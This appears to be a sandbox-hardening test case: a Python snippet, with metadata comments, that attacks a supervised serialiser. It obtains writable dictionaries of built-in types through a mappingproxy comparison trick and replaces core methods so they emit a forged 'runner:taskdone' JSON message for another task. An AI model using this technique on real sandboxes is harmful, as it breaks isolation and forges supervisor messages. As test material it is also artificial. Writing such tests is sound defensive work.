# class: shared serialiser
# technique: the dictionary of a built-in type, by comparing its proxy, with methods replaced
# layers: supervisor
# single: what is written is judged by the supervisor alone
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# control: the child serialises with its own code, and the supervisor builds every envelope; neither can be switched off
# witness: messages
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
import operator
box = []
Taker = kind(int)("Taker", (), {"__eq__": lambda self, other: box.append(other) or True})
u = chr(95) * 2
for type_of in (dict, list, str, int):
    operator.attrgetter("".join([u, "di", "ct", u]))(type_of) == Taker()
for names in box:
    for name in ("items", "encode", "join", "append", u + "repr" + u, u + "str" + u):
        if name in names:
            names[name] = lambda *a: 'null},"taskId":"other","type":"runner:taskdone","data":{"result":[]}'
return [{"json": {"x": {1: "y"}, "z": {"set"}}}]
